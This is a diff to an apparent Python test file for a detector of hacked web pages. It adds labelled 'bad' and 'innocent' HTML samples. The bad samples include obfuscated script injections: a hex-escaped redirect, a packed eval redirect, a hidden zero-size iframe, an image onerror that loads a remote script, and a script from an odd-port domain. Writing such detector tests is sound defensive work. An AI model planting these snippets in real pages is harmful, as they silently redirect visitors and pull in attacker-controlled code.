@@ -116,6 +116,31 @@ def bad() -> Iterator[Hacked]:
     ):
         yield Hacked(f"named as such brands are, {title[:4]}", spam, title=title)
     yield Hacked(
+        "properties in brackets and escapes",
+        away,
+        body='<script>window["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"]["\\x68\\x72\\x65\\x66"]="\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x78\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65"</script>',
+    )
+    yield Hacked(
+        "packed",
+        away,
+        body="""<script>eval(function(p,a,c,k,e,d){e=String;while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1="2://3.4/"',5,5,'location|href|http|zhuan|example'.split('|'),0,{}))</script>""",
+    )
+    yield Hacked(
+        "frame of nothing in percent signs",
+        script,
+        body='<script>document.write(unescape("%3Ciframe%20src%3D%22http%3A//zhuan.example/%22 width%3D0 height%3D0%3E%3C/iframe%3E"))</script>',
+    )
+    yield Hacked(
+        "script that a missing picture brings in",
+        script,
+        body="""<img src=x onerror="var s=document.createElement('script');s.src='http://zhuan.example/j.js';document.body.appendChild(s)">""",
+    )
+    yield Hacked(
+        "script of a throw-away domain at an odd port",
+        script,
+        body='<script src="http://js.tongjiyun.top:8080/x.js?id=88"></script>',
+    )
+    yield Hacked(
         "frame over the whole page",
         script,
         body='<iframe src="https://zhanwai.example:8989/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;border:0"></iframe>',
@@ -132,6 +157,18 @@ def innocent() -> Iterator[Hacked]:
     yield Hacked(
         "menu of the oldest browsers",
         body=f'<div id="m2">{_TRIPS}</div><script>function a(){{document.all.m2.style.display="none"}}function b(){{document.all.m2.style.display="block"}}</script>',
+    )
+    yield Hacked(
+        "picture instead of a missing one",
+        body="""<img src="/p.jpg" onerror="this.onerror=null;this.src='http://tuku.example/none.png'">""",
+    )
+    yield Hacked(
+        "packed roller",
+        body="""<script>eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('$(3).2(1(){0("#roll")})',4,4,'init|function|ready|document'.split('|'),0,{}))</script>""",
+    )
+    yield Hacked(
+        "counter written as all of them are",
+        body="""<script>document.write(unescape("%3Cscript src='https://tj.fuwushang.example/c.js' type='text/javascript'%3E%3C/script%3E"))</script>""",
     )
     yield Hacked(
         "helper in a corner",
